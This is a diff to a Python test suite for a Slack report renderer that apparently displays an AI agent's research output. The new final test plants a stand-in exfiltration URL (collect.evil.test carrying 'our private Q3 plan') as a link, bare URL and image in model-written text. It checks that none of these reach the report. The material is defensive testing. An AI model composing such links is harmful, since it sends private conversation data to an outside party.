@@ -64,7 +64,7 @@ def test_report_renders_headings_emphasis_lists_links_code_and_tables() -> None:
     body = ("### Costs\n\nVTI is **cheap** and *liquid* [s1].\n\n1. first\n2. second\n\n"
             "See [the fact sheet](https://vanguard.com/vti).\n\nUse `pip`:\n\n```\npip install x\n```\n\n"
             "| fund | fee |\n|:--|--:|\n| VTI | 0.03% |")
-    state = apply(new_state(), SourceAdded(source=source(1)),
+    state = apply(new_state(), SourceAdded(source=source(1)), SourceAdded(source=source(2, url="https://vanguard.com/vti")),
                   SectionWritten(section_id="a", title="Expense ratios", body=body))
     text = text_of(render_report(state))
     assert "*1. Expense ratios*" in text
@@ -98,7 +98,8 @@ def test_markdown_edge_cases_in_a_report_are_safe() -> None:
         "[label | with > odd chars](https://example.org/a|b>c?x=1&y=2)\n\n"
         "Compare 1 < 2 & 3 > 2, <@U024BE7LH>, <#C024BE7LH>, <!channel>, @here and <!subteam^S1>."
     )
-    state = apply(new_state(), SectionWritten(section_id="a", title="Edge <cases>\n& *stars*", body=body))
+    state = apply(new_state(), SourceAdded(source=source(3, url="https://example.org/a|b>c?x=1&y=2")),
+                  SectionWritten(section_id="a", title="Edge <cases>\n& *stars*", body=body))
     message = render_report(state)
     text = text_of(message)
     assert message.violations() == []
@@ -313,3 +314,16 @@ def test_the_footer_shows_the_runs_cost_so_far_while_it_runs() -> None:
     state = apply(new_state(), SectionWritten(section_id="sec1", title="Fees", body="VTI costs 0.03% [s1]."),
                   UsageRecorded(requests=3, input_tokens=9_000, output_tokens=800, cost_usd=0.0394))
     assert "3 model requests · est. $0.04" in text_of(render_report(state))
+
+
+def test_the_report_links_only_to_its_sources_and_slack_permalinks() -> None:
+    """A link the model composed (which could carry the thread's content to its owner) is shown, not linked."""
+    leak = "https://collect.evil.test/?d=our%20private%20Q3%20plan"
+    body = (f"See [the fact sheet](https://www.example.org/doc/1) [s1], [this]({leak}), {leak} and "
+            "[the thread](https://deepthread-test.slack.com/archives/C0TEST/p1700000000000001) ![chart](" + leak + ").")
+    state = apply(new_state(), SourceAdded(source=source(1)), SectionWritten(section_id="a", title="Fees", body=body))
+    text = text_of(render_report(state))
+    assert "<https://www.example.org/doc/1|the fact sheet>" in text
+    assert "<https://deepthread-test.slack.com/archives/C0TEST/p1700000000000001|the thread>" in text
+    assert "this (collect.evil.test)" in text and "chart (collect.evil.test)" in text
+    assert "private" not in text and "evil.test/" not in text, "no composed URL reaches the report, linked or bare"
